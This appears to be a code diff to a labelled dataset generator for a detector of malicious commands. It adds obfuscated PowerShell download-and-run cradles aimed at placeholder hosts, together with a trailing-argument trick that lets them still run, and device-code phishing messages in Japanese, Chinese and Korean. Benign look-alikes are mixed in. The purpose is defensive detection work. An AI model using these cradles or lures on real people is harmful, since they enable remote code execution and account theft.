@@ -25,6 +25,14 @@ Techniques:
 - `explorer-remote-script`: File Explorer handed a web or WebDAV address of a script Windows
   runs when it opens it (HTA, VBScript, JScript, WSF, batch, PowerShell, screen saver).
   Look-alikes: Explorer opening a web page, a PDF, a local script, a folder.
+- `ps-junk-then-more`: a PowerShell cradle hidden by junk characters stripped with .Replace or
+  -replace and handed to iex, in `powershell -c "<script>"` followed by more words outside the
+  quotes (`; iex $null`, `; exit`): powershell.exe joins its arguments, quotes gone, so the
+  script still runs. Look-alikes: the same shape running only local commands, a string cleaned
+  and printed, not run.
+- `device-code-ja`: device-code phishing in Japanese (and its neighbours zh, ko): open a
+  shared document, a meeting or a voicemail by entering a given code at a real device-login
+  page. Look-alikes: the providers' own help text describing the flow, a TV's sign-in screen.
 - `vendor-page`: a stranger's download-and-run or package source from a page that wears a
   meeting app's name beside an invite or a plugin (webex-invite.<site>), or a product's name
   joined with a mirror (vscode-linux-mirror). Look-alikes: the vendor's own pages and hosts, a
@@ -228,6 +236,76 @@ EXPLORER_CALM = [
 ]
 for text in EXPLORER_CALM:
     add("explorer-remote-script", text, "not_flagged", "windows", "unknown")
+
+# ---- ps-junk-then-more ---------------------------------------------------------------------
+JUNK = [
+    ("#", "i#r#m https:/#/#o9.stage-obf.test/#q"),
+    ("*", "i*w*r -useb https://cdn.*junk-host.invalid/*a | i*e*x"),
+    ("~", "i~r~m 203.0.113.61/~w"),
+    ("@@", "I@@nvoke-RestMethod https://@@dl.junk-host.invalid/@@s"),
+    ("%", "Invoke-Expr%ession (i%rm https://o9.stage-obf.test/%r)"),
+]
+TRAILS = ["; iex $null", "; exit", "; Start-Sleep 1", "; Write-Host done"]
+for i, (junk, hidden) in enumerate(JUNK):
+    for j, trail in enumerate(TRAILS[:2] if i % 2 else TRAILS[1:3]):
+        if j % 2 and junk != "*":  # -replace takes a regular expression
+            script = f"iex ('{hidden}' -replace '{junk}','')"
+        else:
+            script = f"iex ('{hidden}'.Replace('{junk}',''))"
+        target = "run_dialog" if (i + j) % 2 == 0 else "unknown"
+        add(
+            "ps-junk-then-more", f'powershell -c "{script}" {trail}', "malicious", "windows", target
+        )
+for text in [
+    'powershell -c "Get-Date -Format o" ; exit',
+    "powershell -NoProfile -c \"'2026#12#06'.Replace('#','-')\" ; echo done",
+    'powershell -c "Get-ChildItem $env:TEMP | Measure-Object" & exit',
+    "powershell -c \"Write-Host ('a#b#c' -replace '#','')\" ; exit",
+    'powershell -c "Get-Service Spooler" ; pause',
+]:
+    add("ps-junk-then-more", text, "not_flagged", "windows", "unknown")
+
+# ---- device-code-ja ------------------------------------------------------------------------
+DEVICE_PAGES = [
+    "https://microsoft.com/devicelogin",
+    "https://www.google.com/device",
+    "https://github.com/login/device",
+    "https://aka.ms/devicelogin",
+]
+DEVICE_TEXTS = [
+    "共有ドキュメントを開くには {u} にアクセスし、コード {c} を入力してください。",
+    "会議に参加するには、{u} を開いてコード {c} を入力してください。",
+    "ボイスメールを再生するには {u} でコード「{c}」を入力してください。",
+    "請求書を確認するため、{u} にアクセスしてコード {c} を入力してください。",
+    "要打开共享文档，请访问 {u} 并输入代码 {c}。",
+    "공유 문서를 열려면 {u} 에 접속해 코드 {c} 를 입력하세요.",
+]
+CODES = ["QWER-TYUI", "K7PM-2XQD", "HX4NTR9W", "ZT8-KQ2-PL5"]
+for i, tmpl in enumerate(DEVICE_TEXTS):
+    for j in range(2):
+        k = i * 2 + j
+        text = tmpl.replace("{u}", DEVICE_PAGES[k % 4]).replace("{c}", CODES[k % 4])
+        add(
+            "device-code-ja",
+            text,
+            "flagged",
+            "any",
+            "unknown",
+            "https://docs-share-portal.example/s/77" if j else None,
+        )
+for text in [
+    "デバイス コード フローでは、アプリがユーザーに https://microsoft.com/devicelogin を開いてコードを入力するよう案内します。",
+    "テレビの画面に表示されたコードを、スマートフォンで google.com/device に入力してください。",
+    "設備授權流程：應用程式顯示代碼，使用者在另一台裝置上輸入。",
+]:
+    add(
+        "device-code-ja",
+        text,
+        "not_flagged",
+        "any",
+        "unknown",
+        "https://learn.microsoft.com/ja-jp/entra/identity-platform/v2-oauth2-device-code",
+    )
 
 # ---- vendor-page ---------------------------------------------------------------------------
 VENDOR_LURES = [
